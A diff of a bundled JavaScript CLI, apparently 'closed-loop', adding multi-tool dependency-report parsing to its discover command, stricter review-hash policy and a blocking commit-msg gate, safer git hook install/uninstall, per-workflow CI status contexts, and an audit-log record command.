-        ...shown.map((i) => `${i.scores.composite.toFixed(1).padStart(6)}  ${i.kind.padEnd(width)}  ${i.title}${i.path && !i.title.includes(i.path) ? `  (${i.line ? `${i.path}:${i.line}` : i.path})` : ''}`),
+        ...shown.flatMap((i) => [
+            `${i.scores.composite.toFixed(1).padStart(6)}  ${i.kind.padEnd(width)}  ${i.title}${i.path && !i.title.includes(i.path) ? `  (${i.line ? `${i.path}:${i.line}` : i.path})` : ''}`,
+            ...(i.why ? [`${indent}why: ${i.why}`] : []),
+        ]),
+        '',
+        ...leftOutFooter(metrics.leftOut ?? []),
     ];
     return `${lines.join('\n')}\n`;
 }
 const discoverCommand = {
     name: 'discover',
     summary: 'rank the work a local clone asks for: debt markers, hotspots, test gaps, large files, dependencies.',
-    usage: '[--repo DIR] [--json] [--top N] [--npm-audit FILE] [--npm-outdated FILE]',
+    usage: '[--repo DIR] [--json] [--top N] [--deps FILE]… [--npm-audit FILE] [--npm-outdated FILE]',
     options: {
         repo: { type: 'string', valueName: 'DIR', description: 'Repository to look at (default: the current directory).' },
         json: { type: 'boolean', description: 'Print value-metrics.json (all items, scores and explanations) instead of the table.' },
         top: { type: 'string', valueName: 'N', description: 'How many items the table shows (default 25).' },
+        deps: {
+            type: 'string',
+            multiple: true,
+            valueName: 'FILE',
+            description: 'JSON report of a dependency tool, told by its shape (repeatable): osv-scanner --format json, pip-audit -f json, cargo audit --json, govulncheck -json, npm audit --json, npm outdated --json, pip list --outdated --format=json, Dependabot alerts saved by gh api --paginate.',
+        },
         'npm-audit': { type: 'string', valueName: 'FILE', description: 'Output of `npm audit --json` to include vulnerable dependencies.' },
         'npm-outdated': { type: 'string', valueName: 'FILE', description: 'Output of `npm outdated --json` to include outdated dependencies.' },
     },
@@ -18557,12 +25009,22 @@ const discoverCommand = {
             throw new ConfigurationError(`${repo} is not inside a git repository; pass --repo with the path of a clone.`);
         });
         const configFile = (0,external_node_path_namespaceObject.join)(root, CONFIG_PATH);
-        const settings = discoverSettings(loadConfig((0,external_node_fs_namespaceObject.existsSync)(configFile) ? (0,external_node_fs_namespaceObject.readFileSync)(configFile, 'utf8') : undefined, CONFIG_PATH));
+        const settings = discoverSettings(loadConfig((0,external_node_fs_.existsSync)(configFile) ? (0,external_node_fs_.readFileSync)(configFile, 'utf8') : undefined, CONFIG_PATH));
         checkWeights(settings.scoring_weights);
-        const audit = typeof values['npm-audit'] === 'string' ? parseNpmAudit(await readJson(io, 'npm-audit', values['npm-audit']), values['npm-audit']) : undefined;
-        const outdated = typeof values['npm-outdated'] === 'string'
-            ? parseNpmOutdated(await readJson(io, 'npm-outdated', values['npm-outdated']), values['npm-outdated'])
-            : undefined;
+        const reports = [];
+        const npmAudit = values['npm-audit'];
+        const npmOutdated = values['npm-outdated'];
+        if (typeof npmAudit === 'string')
+            reports.push({ tool: 'npm audit', vulnerabilities: parseNpmAudit(await readJson(io, 'npm-audit', npmAudit), npmAudit), outdated: [], source: npmAudit });
+        if (typeof npmOutdated === 'string')
+            reports.push({
+                tool: 'npm outdated',
+                vulnerabilities: [],
+                outdated: parseNpmOutdated(await readJson(io, 'npm-outdated', npmOutdated), npmOutdated),
+                source: npmOutdated,
+            });
+        for (const file of Array.isArray(values.deps) ? values.deps : [])
+            reports.push({ ...parseDependencyReport(await readJson(io, 'deps', file), file, root), source: file });
         const started = Date.now();
         const local = await harvestLocal(new Git(root), settings, {
             now: started,
@@ -18570,10 +25032,15 @@ const discoverCommand = {
                 io.stderr(`closed-loop discover: ${n} commits read…\n`);
             },
         });
+        const deps = reports.length ? combineReports(reports) : undefined;
         const harvest = {
             ...local,
-            skipped: { 'ci-health': OFFLINE, 'loop-health': OFFLINE, dependencies: 'pass --npm-audit / --npm-outdated with npm’s JSON output' },
-            ...(audit || outdated ? { dependencies: { vulnerabilities: audit ?? [], outdated: outdated ?? [] } } : {}),
+            skipped: {
+                'ci-health': OFFLINE,
+                'loop-health': OFFLINE,
+                dependencies: 'pass --deps with the JSON of osv-scanner, pip-audit, cargo audit, govulncheck or npm audit',
+            },
+            ...(deps ? { dependencies: { vulnerabilities: deps.vulnerabilities, outdated: deps.outdated }, notes: { ...local.notes, dependencies: deps.note } } : {}),
         };
         const metrics = discover(harvest, settings, started);
         io.stdout(values.json ? `${JSON.stringify(metrics, null, 2)}\n` : render(metrics, top, (Date.now() - started) / 1000, local.commits, local.files?.length ?? 0));
@@ -18987,6 +25454,8 @@ function checkReview(input) {
         if (problem)
             return fail('audit-log', problem, withId);
     }
+    if (policy.requireSignature && !policy.signingKey)
+        return fail('signature', 'require_signature is set but no signing key is available to this run (fork and Dependabot runs get no secrets)', withId);
     if (policy.signingKey) {
         const signatures = distinct(record.signatures);
         if (!signatures.length)
@@ -19006,25 +25475,34 @@ function earlyFailure(status, reviewHash, detail) {
 
 
 function resolvePolicy(section, overrides, repository, source = 'review-id-pattern') {
-    const reviewIdPattern = overrides.reviewIdPattern || section?.review_id_pattern || DEFAULT_REVIEW_ID_PATTERN;
+    const reviewIdPattern = section?.review_id_pattern || overrides.reviewIdPattern || DEFAULT_REVIEW_ID_PATTERN;
     try {
         new RegExp(reviewIdPattern);
     }
     catch (error) {
         throw new ConfigurationError(`${source} is not a valid regular expression (${error.message}); fix the pattern or leave it empty for the default.`);
     }
-    const scope = overrides.scope ?? section?.scope ?? 'changes';
-    const auditLog = overrides.auditLog || section?.audit_log || undefined;
+    const scope = section?.scope ?? overrides.scope ?? 'changes';
+    const auditLog = section?.audit_log || overrides.auditLog || undefined;
     if (scope === 'snapshot' && auditLog)
         throw new ConfigurationError('audit-log cannot be combined with scope snapshot (the log records the hash of a tree that contains it); use scope changes.');
     return {
         scope,
-        reviewId: overrides.reviewId ?? section?.review_id ?? 'optional',
+        reviewId: stricter(section?.review_id ?? 'optional', overrides.reviewId),
         reviewIdPattern,
         auditLog,
         signingKey: overrides.signingKey || undefined,
         repository,
+        proof: section?.proof?.length ? [...new Set(section.proof)] : ['review'],
+        requireSignature: section?.require_signature === true,
     };
+}
+const ID_STRICTNESS = ['off', 'optional', 'required'];
+/** The stricter of the file's review_id and the input's: an input cannot turn the check off. */
+function stricter(configured, given) {
+    if (!given)
+        return configured;
+    return ID_STRICTNESS.indexOf(given) > ID_STRICTNESS.indexOf(configured) ? given : configured;
 }
 
 ;// CONCATENATED MODULE: ./packages/core/src/git/review-hash.ts
@@ -19055,7 +25533,7 @@ async function fingerprint(git, mergeBase, tree, scope = 'changes', exclude = []
     if (scope === 'snapshot')
         return snapshotHash(tree);
     // diff-tree peels a commit to its tree itself, saving a rev-parse on the hot path.
-    const { stdout } = await git.run([...DIFF_TREE, '--end-of-options', assertRev(mergeBase), tree]);
+    const { stdout } = await git.run([...DIFF_TREE, '--end-of-options', git_assertRev(mergeBase), tree]);
     return reviewHashOfRaw(objectFormatOf(tree), stdout, exclude.map((p) => Buffer.from(p.replace(/^\.?\//, ''))));
 }
 /** The fingerprint a policy asks for (its scope, its audit log left out). */
@@ -19138,6 +25616,11 @@ async function loadReviewPolicy(git, rev, configPath, overrides, repository) {
     const config = loadConfig(text, configPath);
     return resolvePolicy(config.review_hash, overrides, repository);
 }
+/** The `review_hash:` section as it is at `rev` (for settings the check itself does not use, such as `local_gate`). */
+async function loadReviewSection(git, rev, configPath) {
+    const config = loadConfig(await readFileAt(git, rev, configPath), configPath);
+    return config.review_hash ?? {};
+}
 /** The base to compare against when none is given: the remote's default branch, else a local main/master. */
 async function defaultBase(git) {
     const originHead = await git.run(['symbolic-ref', '--quiet', '--short', 'refs/remotes/origin/HEAD'], { okExitCodes: [1, 128] });
@@ -19181,89 +25664,211 @@ async function recordOnHead(git, message, mode) {
     return created;
 }
 
+;// CONCATENATED MODULE: ./packages/core/src/review-hash/audit-entry.ts
+
+
+
+const AUDIT_STATUSES = ['approved', 'changes_requested'];
+/** GitHub's login rule: alphanumerics and single inner hyphens, at most 39 characters. */
+const LOGIN = /^[A-Za-z0-9](?:[A-Za-z0-9]|-(?=[A-Za-z0-9])){0,38}$/;
+/** Refuses what the check would later refuse, so a bad entry never reaches the log. */
+function validateAuditRecord(record, reviewIdPattern) {
+    const idKind = placeholderKind(record.reviewId);
+    if (idKind)
+        throw new ConfigurationError(`--review-id is a placeholder (${idKind}); pass the id of the actual review.`);
+    if (!new RegExp(reviewIdPattern).test(record.reviewId))
+        throw new ConfigurationError(`--review-id ${record.reviewId} does not match ${reviewIdPattern} (review_hash.review_id_pattern).`);
+    if (!LOGIN.test(record.reviewer))
+        throw new ConfigurationError(`--reviewer ${JSON.stringify(record.reviewer)} is not a GitHub login.`);
+    if (!AUDIT_STATUSES.includes(record.status))
+        throw new ConfigurationError(`--status must be ${AUDIT_STATUSES.join(' or ')}, got "${record.status}".`);
+}
+/**
+ * The JSON line the check reads (`auditLogProblem`): `review_id`, `review_hash` and `status` are the
+ * fields it looks at; `reviewer` and `time` make the log an audit trail.
+ */
+function auditEntryLine(record) {
+    return `${JSON.stringify({
+        review_id: record.reviewId,
+        review_hash: record.reviewHash,
+        reviewer: record.reviewer,
+        status: record.status,
+        time: new Date(record.time).toISOString(),
+    })}\n`;
+}
+/** Appends a line, adding the newline a hand-edited log may lack at its end. */
+function appendAuditLine(existing, line) {
+    return existing === '' || existing.endsWith('\n') ? existing + line : `${existing}\n${line}`;
+}
+/**
+ * Whether some Review-Id in the log approves exactly `reviewHash`, judged as the check judges it (the last
+ * entry of an id wins). Lines that are not JSON are left to the check to report.
+ */
+function approvedInLog(text, path, reviewHash) {
+    const entries = text.split('\n').flatMap((line) => {
+        try {
+            const entry = JSON.parse(line);
+            return typeof entry === 'object' && entry !== null ? [{ line, entry }] : [];
+        }
+        catch {
+            return [];
+        }
+    });
+    const parsable = entries.map((e) => e.line).join('\n');
+    const ids = new Set(entries.filter((e) => String(e.entry.review_hash).toLowerCase() === reviewHash).map((e) => e.entry.review_id));
+    return [...ids].some((id) => typeof id === 'string' && auditLogProblem(parsable, path, id, reviewHash) === undefined);
+}
+
+;// CONCATENATED MODULE: ./packages/cli/src/commands/hook-script.ts
+
+/** The published package (root package.json `name`); hooks tell users to install it when it is missing. */
+const PACKAGE_NAME = 'closed-loop';
+const INSTALL_HINT = `npm i -D ${PACKAGE_NAME} (or npm i -g ${PACKAGE_NAME})`;
+/** Marks a hook file as ours, so install is idempotent and uninstall never deletes someone else's hook. */
+const HOOK_MARKER = '# closed-loop managed hook';
+/** Where install moves the hook it found; ours runs it first, and uninstall moves it back. */
+const CHAINED_SUFFIX = '.closed-loop-chained';
+/** Where uninstall keeps one of our hooks that the user edited, instead of deleting their lines. */
+const EDITED_SUFFIX = '.closed-loop-edited';
+/** The CLI arguments each hook runs (after the hook it replaced). */
+const HOOKS = {
+    'pre-commit': 'scan --staged',
+    'commit-msg': 'hooks commit-msg "$1"',
+};
+const shQuote = (value) => `'${value.replace(/'/g, `'\\''`)}'`;
+const digest = (body) => (0,external_node_crypto_namespaceObject.createHash)('sha256').update(body).digest('hex').slice(0, 16);
+/**
+ * The hook: run the chained hook first (its failure blocks), then the CLI found the way this repository
+ * installed it — local node_modules, then global (PATH), then the path recorded at install. A missing CLI
+ * never blocks a commit: one line says how to install it. The header carries a digest of the body so
+ * uninstall can tell our hook from one the user edited.
+ */
+function hookScript(name, recorded) {
+    const args = HOOKS[name];
+    const fallback = recorded
+        ? `elif [ -f ${shQuote(recorded.entry)} ]; then
+  if command -v node >/dev/null 2>&1; then exec node ${shQuote(recorded.entry)} ${args}; fi
+  exec ${shQuote(recorded.node)} ${shQuote(recorded.entry)} ${args}
+`
+        : '';
+    const body = `chained="$(dirname "$0")/${name}${CHAINED_SUFFIX}"
+if [ -x "$chained" ]; then
+  "$chained" "$@" || exit $?
+fi
+top="$(git rev-parse --show-toplevel 2>/dev/null)"
+if [ -n "$top" ] && [ -x "$top/node_modules/.bin/${PACKAGE_NAME}" ]; then
+  exec "$top/node_modules/.bin/${PACKAGE_NAME}" ${args}
+elif command -v ${PACKAGE_NAME} >/dev/null 2>&1; then
+  exec ${PACKAGE_NAME} ${args}
+${fallback}fi
+echo "closed-loop: ${name} check skipped, the CLI is not installed; install it with: ${INSTALL_HINT}" >&2
+exit 0
+`;
+    return `#!/bin/sh\n${HOOK_MARKER} (${name}) ${digest(body)}. Remove with: ${PACKAGE_NAME} hooks uninstall\n${body}`;
+}
+const isOurHook = (text) => text.includes(HOOK_MARKER);
+/** Whether one of our hooks is byte for byte what install wrote (its body still matches the digest in its header). */
+function isUneditedHook(text) {
+    const [shebang, header, ...rest] = text.split('\n');
+    const m = /^# closed-loop managed hook \([\w-]+\) ([0-9a-f]{16})\. /.exec(header ?? '');
+    return shebang === '#!/bin/sh' && m !== null && m[1] === digest(rest.join('\n'));
+}
+
 ;// CONCATENATED MODULE: ./packages/cli/src/commands/hooks.ts
 
 
 
 
 
-/** Marks a hook file as ours, so install is idempotent and uninstall never deletes someone else's hook. */
-const HOOK_MARKER = '# closed-loop managed hook';
-const CHAINED_SUFFIX = '.closed-loop-chained';
-/** What each hook runs after the hook it replaced (which keeps working: it is moved aside and called first). */
-const HOOKS = {
-    'pre-commit': 'scan --staged',
-    'commit-msg': 'hooks commit-msg "$1"',
-};
-function hookScript(name) {
-    return `#!/bin/sh
-${HOOK_MARKER} (${name}). Remove with: npx closed-loop hooks uninstall
-chained="$(dirname "$0")/${name}${CHAINED_SUFFIX}"
-if [ -x "$chained" ]; then
-  "$chained" "$@" || exit $?
-fi
-top="$(git rev-parse --show-toplevel)"
-if [ -x "$top/node_modules/.bin/closed-loop" ]; then
-  exec "$top/node_modules/.bin/closed-loop" ${HOOKS[name]}
-fi
-exec npx --no-install closed-loop ${HOOKS[name]}
-`;
-}
+
+
 /** The hooks directory git uses here: honours core.hooksPath and worktrees. */
 async function hooksDir(io) {
-    const dir = await new Git(io.cwd).text(['rev-parse', '--git-path', 'hooks']).catch(() => undefined);
+    const git = new Git(io.cwd);
+    const dir = await git.text(['rev-parse', '--git-path', 'hooks']).catch(() => undefined);
     if (dir === undefined)
         throw new ConfigurationError(`${io.cwd} is not inside a git repository; run closed-loop hooks from your clone.`);
+    const hooksPath = await git.text(['config', '--get', 'core.hooksPath']).catch(() => '');
+    if (/(^|[\\/])\.husky([\\/]|$)/.test(hooksPath))
+        throw new ConfigurationError(`husky manages this repository's hooks (core.hooksPath=${hooksPath.trim()}); add \`${PACKAGE_NAME} scan --staged\` to .husky/pre-commit instead (docs/hooks.md).`);
     return (0,external_node_path_namespaceObject.resolve)(io.cwd, dir);
 }
-async function isOurs(path) {
-    return (0,external_node_fs_namespaceObject.existsSync)(path) && (await (0,promises_namespaceObject.readFile)(path, 'utf8')).includes(HOOK_MARKER);
-}
+const readIfExists = async (path) => ((0,external_node_fs_.existsSync)(path) ? (0,promises_namespaceObject.readFile)(path, 'utf8') : undefined);
 const install = {
     name: 'install',
     summary: 'install the pre-commit (secret scan) and commit-msg (review warning) hooks, keeping existing hooks.',
     run: async (_args, io) => {
         const dir = await hooksDir(io);
         await (0,promises_namespaceObject.mkdir)(dir, { recursive: true });
+        const recorded = io.entry ? { node: process.execPath, entry: io.entry } : undefined;
         for (const name of Object.keys(HOOKS)) {
             const path = (0,external_node_path_namespaceObject.join)(dir, name);
-            if ((0,external_node_fs_namespaceObject.existsSync)(path) && !(await isOurs(path))) {
-                if ((0,external_node_fs_namespaceObject.existsSync)(path + CHAINED_SUFFIX))
+            const existing = await readIfExists(path);
+            if (existing !== undefined && isOurHook(existing) && !isUneditedHook(existing))
+                throw new ConfigurationError(`${path} is a closed-loop hook you edited; move your lines to ${path}${CHAINED_SUFFIX} (it runs first), then install again.`);
+            if (existing !== undefined && !isOurHook(existing)) {
+                if ((0,external_node_fs_.existsSync)(path + CHAINED_SUFFIX))
                     throw new ConfigurationError(`${path}${CHAINED_SUFFIX} already exists; move one of the two hooks away, then install again.`);
                 await (0,promises_namespaceObject.rename)(path, path + CHAINED_SUFFIX);
                 io.stdout(`Kept your ${name} hook: it now runs first, from ${path}${CHAINED_SUFFIX}.\n`);
             }
-            await (0,promises_namespaceObject.writeFile)(path, hookScript(name));
+            await (0,promises_namespaceObject.writeFile)(path, hookScript(name, recorded));
             await (0,promises_namespaceObject.chmod)(path, 0o755);
         }
         io.stdout(`Installed pre-commit and commit-msg hooks in ${dir}.\n`);
         return EXIT.ok;
     },
 };
+/** Puts back exactly what install found; a hook of ours the user edited is kept aside, never deleted. */
 const uninstall = {
     name: 'uninstall',
     summary: 'remove the closed-loop hooks and put back the hooks they chained to.',
     run: async (_args, io) => {
         const dir = await hooksDir(io);
+        let changed = false;
         for (const name of Object.keys(HOOKS)) {
             const path = (0,external_node_path_namespaceObject.join)(dir, name);
-            if (!(await isOurs(path)))
+            const chained = path + CHAINED_SUFFIX;
+            const existing = await readIfExists(path);
+            if (existing !== undefined && !isOurHook(existing)) {
+                if ((0,external_node_fs_.existsSync)(chained))
+                    io.stdout(`Left ${path} alone (not ours); the hook it replaced is still at ${chained}.\n`);
                 continue;
-            await (0,promises_namespaceObject.rm)(path);
-            if ((0,external_node_fs_namespaceObject.existsSync)(path + CHAINED_SUFFIX))
-                await (0,promises_namespaceObject.rename)(path + CHAINED_SUFFIX, path);
+            }
+            if (existing !== undefined && isUneditedHook(existing))
+                await (0,promises_namespaceObject.rm)(path);
+            else if (existing !== undefined) {
+                if ((0,external_node_fs_.existsSync)(path + EDITED_SUFFIX))
+                    throw new ConfigurationError(`${path}${EDITED_SUFFIX} already exists; move it away, then uninstall again.`);
+                await (0,promises_namespaceObject.rename)(path, path + EDITED_SUFFIX);
+                io.stdout(`Kept your edited ${name} hook at ${path}${EDITED_SUFFIX}.\n`);
+            }
+            if ((0,external_node_fs_.existsSync)(chained)) {
+                await (0,promises_namespaceObject.rename)(chained, path);
+                io.stdout(`Restored your ${name} hook at ${path}.\n`);
+            }
+            else if (existing !== undefined)
+                io.stdout(`Removed the closed-loop ${name} hook from ${dir}.\n`);
+            changed ||= existing !== undefined || (0,external_node_fs_.existsSync)(path);
         }
-        io.stdout(`Removed the closed-loop hooks from ${dir}.\n`);
+        if (!changed)
+            io.stdout(`No closed-loop hooks in ${dir}; nothing to remove.\n`);
         return EXIT.ok;
     },
 };
-/** Run by the commit-msg hook: warns (never blocks) when the staged tree no longer matches the last review. */
+/**
+ * Run by the commit-msg hook. `review_hash.local_gate` (read at the merge-base) says what it does: `warn`
+ * (default) prints when the staged tree no longer matches the last review; `block` refuses the commit
+ * unless the staged audit log approves the staged Review-Hash; `off` does nothing.
+ */
 const commitMsg = {
     name: 'commit-msg',
-    summary: '(run by the hook) warn when this commit changes code that was already reviewed.',
+    summary: '(run by the hook) warn — or with local_gate: block, refuse — when this commit holds code without an approved review.',
     usage: 'MESSAGE-FILE',
     positionals: true,
+    failsWith: 'the commit is refused (review_hash.local_gate: block and no approved review of the staged code)',
     run: async (args, io) => {
+        let gate = 'warn';
         try {
             const git = new Git(io.cwd);
             const base = await defaultBase(git);
@@ -19272,6 +25877,11 @@ const commitMsg = {
             const { mergeBase } = await uniqueMergeBase(git, base, 'HEAD');
             if (!mergeBase)
                 return EXIT.ok;
+            gate = (await loadReviewSection(git, mergeBase, CONFIG_PATH)).local_gate ?? 'warn';
+            if (gate === 'off')
+                return EXIT.ok;
+            if (gate === 'block')
+                return await blockUnapproved(git, mergeBase, base, io);
             const record = findReviewRecord(await commitsSince(git, mergeBase, 'HEAD'));
             const message = args.positionals[0] ? await (0,promises_namespaceObject.readFile)((0,external_node_path_namespaceObject.resolve)(io.cwd, args.positionals[0]), 'utf8') : '';
             if (!record || trailerValues(parseTrailers(message), TRAILER.hash).length)
@@ -19285,11 +25895,27 @@ const commitMsg = {
                 `  npx closed-loop review-hash stamp --base ${base} --review-id <REVIEW-ID> --new-commit\n`);
         }
         catch (error) {
-            io.stderr(`closed-loop: review check skipped: ${errorMessage(error)}\n`);
+            // A gate that blocks fails closed: an unreadable config must not let unreviewed code through.
+            io.stderr(`closed-loop: review check ${gate === 'block' ? 'failed' : 'skipped'}: ${errorMessage(error)}\n`);
+            if (gate === 'block')
+                return EXIT.findings;
         }
         return EXIT.ok;
     },
 };
+/** `local_gate: block`: the staged audit log must approve the staged Review-Hash. */
+async function blockUnapproved(git, mergeBase, base, io) {
+    const policy = await loadReviewPolicy(git, mergeBase, CONFIG_PATH, {}, '');
+    if (!policy.auditLog)
+        throw new ConfigurationError(`review_hash.local_gate is block but review_hash.audit_log is not set in ${CONFIG_PATH}; set both or neither.`);
+    const staged = await policyFingerprint(git, mergeBase, await reviewTree(git, 'index'), policy);
+    const log = await git.text(['show', `:${policy.auditLog}`]).catch(() => '');
+    if (approvedInLog(log, policy.auditLog, staged))
+        return EXIT.ok;
+    io.stderr(`closed-loop: commit refused (review_hash.local_gate: block): no approved review of the staged code (Review-Hash ${staged}) in ${policy.auditLog}.\n` +
+        `  After the review: npx closed-loop review-hash record --base ${base} --index --review-id <REVIEW-ID> --reviewer <LOGIN> --status approved\n`);
+    return EXIT.findings;
+}
 const hooksCommand = {
     name: 'hooks',
     summary: 'install or remove the git hooks (pre-commit secret scan, commit-msg review warning).',
@@ -19616,8 +26242,9 @@ const LEDGER = 'notify-ledger';
 const SCOPE = 'notify-scope';
 /** Workflow + branch a run belongs to, hashed: branch names are untrusted and may hold "--". */
 function scopeKey(run) {
+    // A fork's `main` is not ours: its runs get a scope of their own.
     return (0,external_node_crypto_namespaceObject.createHash)('sha256')
-        .update(`${run.workflowPath || run.workflowName}\0${run.headBranch ?? ''}`)
+        .update(`${run.workflowPath || run.workflowName}\0${run.headBranch ?? ''}${run.fork ? '\0fork' : ''}`)
         .digest('hex')
         .slice(0, 16);
 }
@@ -19742,7 +26369,7 @@ function parts_link(label, url) {
     const safe = safeUrl(url);
     return safe ? `[${escape_escapeInline(label)}](${safe})` : escape_escapeInline(label);
 }
-function percent(confidence) {
+function parts_percent(confidence) {
     return `${Math.round(Math.max(0, Math.min(1, confidence)) * 100)}%`;
 }
 function categoryLabel(category, subcategory) {
@@ -19800,7 +26427,7 @@ function failureMessage(verdict, outcome, change, issueUrl, redact) {
             { name: 'Repository', value: verdict.run.repository },
             { name: 'Branch', value: verdict.run.headBranch ?? '(none)' },
             { name: 'Severity', value: verdict.severity },
-            { name: 'Confidence', value: percent(verdict.confidence) },
+            { name: 'Confidence', value: parts_percent(verdict.confidence) },
             { name: 'recover', value: recoverSentence(outcome) },
         ],
         evidence: evidenceExcerpt(verdict.evidence.lines, 500),
@@ -19911,7 +26538,7 @@ function finishBody(visible, redact, hidden = '') {
 }
 function headline(v) {
     const job = mainJob(v);
-    return `${severityIcon(v.severity)} **${escape_escapeInline(categoryLabel(v.category, v.subcategory))}** failure in ${escape_escapeInline(v.run.workflowName)}${job ? ` › ${escape_escapeInline(job.jobName)}` : ''} — severity **${v.severity}**, confidence ${percent(v.confidence)}${v.transient ? ', likely transient' : ''}${v.flaky ? ', flaky (passed on another attempt)' : ''}`;
+    return `${severityIcon(v.severity)} **${escape_escapeInline(categoryLabel(v.category, v.subcategory))}** failure in ${escape_escapeInline(v.run.workflowName)}${job ? ` › ${escape_escapeInline(job.jobName)}` : ''} — severity **${v.severity}**, confidence ${parts_percent(v.confidence)}${v.transient ? ', likely transient' : ''}${v.flaky ? ', flaky (passed on another attempt)' : ''}`;
 }
 function facts(v) {
     const branch = v.run.headBranch ? parts_code(v.run.headBranch) : '(no branch)';
@@ -19937,7 +26564,7 @@ function jobsTable(v) {
         raw(parts_link(j.jobName, j.htmlUrl)),
         j.stepName ?? j.evidence.step ?? '',
         categoryLabel(j.category, j.subcategory),
-        percent(j.confidence),
+        parts_percent(j.confidence),
         evidenceExcerpt(j.evidence.lines),
     ]));
 }
@@ -19945,7 +26572,7 @@ function historyLine(v) {
     const h = v.history;
     if (!h.runs)
         return '';
-    return `\n\nLast ${h.windowHours} h: ${h.failures}/${h.runs} runs failed (${percent(h.failureRate)}), ${h.consecutiveFailures} consecutive.`;
+    return `\n\nLast ${h.windowHours} h: ${h.failures}/${h.runs} runs failed (${parts_percent(h.failureRate)}), ${h.consecutiveFailures} consecutive.`;
 }
 function recentRuns(ledger) {
     const rows = ledger.runs.map((r) => [raw(parts_link(`#${r.id}`, r.url)), r.attempt, r.branch ?? '', raw(parts_code(r.sha.slice(0, 12))), r.severity, when(r.at)]);
@@ -20044,16 +26671,24 @@ function sanitise(verdict, outcome, redact) {
 
 
 
+/**
+ * One context per watched workflow (`closed-loop / CI`): a green run of one workflow must never
+ * overwrite another workflow's failure on the same SHA, or a required context would pass while CI is red.
+ */
+function statusContextFor(settings, run) {
+    const workflow = run.workflowName || run.workflowPath;
+    return workflow ? `${settings.statusContext} / ${workflow}` : settings.statusContext;
+}
 /** Commit status for a failure: one line, ≤ 140 characters, stable context. */
 function renderFailureStatus(verdict, settings, redact) {
     const job = mainJob(verdict);
     const text = `${verdict.severity}: ${categoryLabel(verdict.category, verdict.subcategory)}${job ? ` in ${job.jobName}` : ''}${verdict.transient ? ' (transient)' : ''}`;
-    return withUrl({ state: 'failure', context: settings.statusContext, description: parts_plain(redact(text), limits_LIMITS.statusDescription) }, verdict.run.htmlUrl);
+    return withUrl({ state: 'failure', context: statusContextFor(settings, verdict.run), description: parts_plain(redact(text), limits_LIMITS.statusDescription) }, verdict.run.htmlUrl);
 }
 /** Commit status for a green run; names the time to recovery when it closed a failure. */
 function renderSuccessStatus(run, settings, ttrMs, redact) {
     const text = ttrMs === undefined ? `${run.workflowName} passed` : `${run.workflowName} recovered after ${formatDuration(ttrMs)}`;
-    return withUrl({ state: 'success', context: settings.statusContext, description: plain(redact(text), LIMITS.statusDescription) }, run.htmlUrl);
+    return withUrl({ state: 'success', context: statusContextFor(settings, run), description: plain(redact(text), LIMITS.statusDescription) }, run.htmlUrl);
 }
 function withUrl(status, url) {
     const safe = safeUrl(url);
@@ -20606,6 +27241,7 @@ const TITLES = {
     signature: 'Review-Signature missing or invalid',
     incomplete: 'Pull request commit list incomplete',
     'merge-base': 'Ambiguous merge-base',
+    'not-approved': 'No approving review of this code',
 };
 /** Message and fix commands for each status; the action's summary and the CLI print the same text. */
 function explain(result, ctx) {
@@ -20624,10 +27260,7 @@ function explain(result, ctx) {
         case 'conflicting':
             return { title, message: `${result.detail}. A review record must name exactly one value; record the review again in a new commit.`, fix: [stamp] };
         case 'mismatch': {
-            const files = result.changedSinceReview ?? [];
-            const list = files.length
-                ? ` Files changed since the reviewed commit: ${files.slice(0, 50).join(', ')}${files.length > 50 ? ` and ${files.length - 50} more` : ''}.`
-                : '';
+            const list = changedList(result, 'reviewed');
             return {
                 title,
                 message: `${result.detail}.${list} Have these changes reviewed, then record the review again.`,
@@ -20652,6 +27285,14 @@ function explain(result, ctx) {
                 message: `${result.detail}. The check fails closed rather than judge a partial history; re-run the job.`,
                 fix: ['gh run rerun --failed'],
             };
+        case 'not-approved': {
+            const list = changedList(result, 'approved');
+            return {
+                title,
+                message: `${result.detail}.${list} A reviewer with write permission who is not the author (and wrote none of the commits) approves the pull request on GitHub.`,
+                fix: result.reviewedCommit ? [`git diff ${result.reviewedCommit} HEAD`] : [],
+            };
+        }
         case 'merge-base':
             return {
                 title,
@@ -20659,6 +27300,13 @@ function explain(result, ctx) {
                 fix: [`git fetch origin && git merge ${ctx.baseRef} && git push`],
             };
     }
+}
+/** ` Files changed since the reviewed commit: a, b.` (at most 50 named), or nothing. */
+function changedList(result, what) {
+    const files = result.changedSinceReview ?? [];
+    if (!files.length)
+        return '';
+    return ` Files changed since the ${what} commit: ${files.slice(0, 50).join(', ')}${files.length > 50 ? ` and ${files.length - 50} more` : ''}.`;
 }
 
 ;// CONCATENATED MODULE: ./packages/cli/src/commands/review-hash.ts
@@ -20811,6 +27459,78 @@ const verify = {
     },
 };
 const reviewHashCommand = { ...hashCommand, subcommands: [stamp, verify] };
+
+;// CONCATENATED MODULE: ./packages/cli/src/commands/review-record.ts
+
+
+
+
+
+
+/**
+ * `review-hash record`: appends the reviewer's decision to the audit log that review-hash-validate reads
+ * (`review_hash.audit_log`). The hash is always computed here, never taken on trust: `--review-hash`
+ * only asserts which hash the reviewer saw, and a different (stale) one is refused.
+ */
+const recordCommand = {
+    name: 'record',
+    summary: 'append a review decision (Review-Id, Review-Hash, reviewer, status, time) to the audit log and commit it.',
+    usage: '--review-id ID --reviewer LOGIN --status approved|changes_requested [--audit-log FILE] [--base REV] [--index] [--review-hash HASH]',
+    options: {
+        base: { type: 'string', valueName: 'REV', description: 'Base branch or commit (default: origin/HEAD, origin/main, main…).' },
+        'review-id': { type: 'string', valueName: 'ID', description: 'Id of the review (UUID, ULID or 16+ hex by default).' },
+        reviewer: { type: 'string', valueName: 'LOGIN', description: 'GitHub login of the reviewer.' },
+        status: { type: 'string', valueName: 'STATUS', description: 'approved or changes_requested (a later entry for the same id wins).' },
+        'audit-log': { type: 'string', valueName: 'FILE', description: 'Audit log path in the repository (default: review_hash.audit_log).' },
+        'review-hash': { type: 'string', valueName: 'HASH', description: 'The hash the reviewer saw; refused unless it is the current one.' },
+        index: {
+            type: 'boolean',
+            description: 'Record the staged code and only stage the log (it goes into your next commit) instead of committing it on HEAD.',
+        },
+        json: { type: 'boolean', description: 'Print JSON instead of text.' },
+    },
+    details: 'The audit log is left out of the Review-Hash, so committing it does not change the hash. Then record the trailers with `review-hash stamp --review-id ID`.',
+    run: async (args, io) => {
+        const reviewId = stringArg(args, 'review-id');
+        const reviewer = stringArg(args, 'reviewer');
+        const status = stringArg(args, 'status');
+        if (!reviewId || !reviewer || !status)
+            throw new ConfigurationError('--review-id, --reviewer and --status are all required.');
+        const staged = !!args.values.index;
+        const t = await resolveTarget(io, args, staged ? 'index' : 'HEAD');
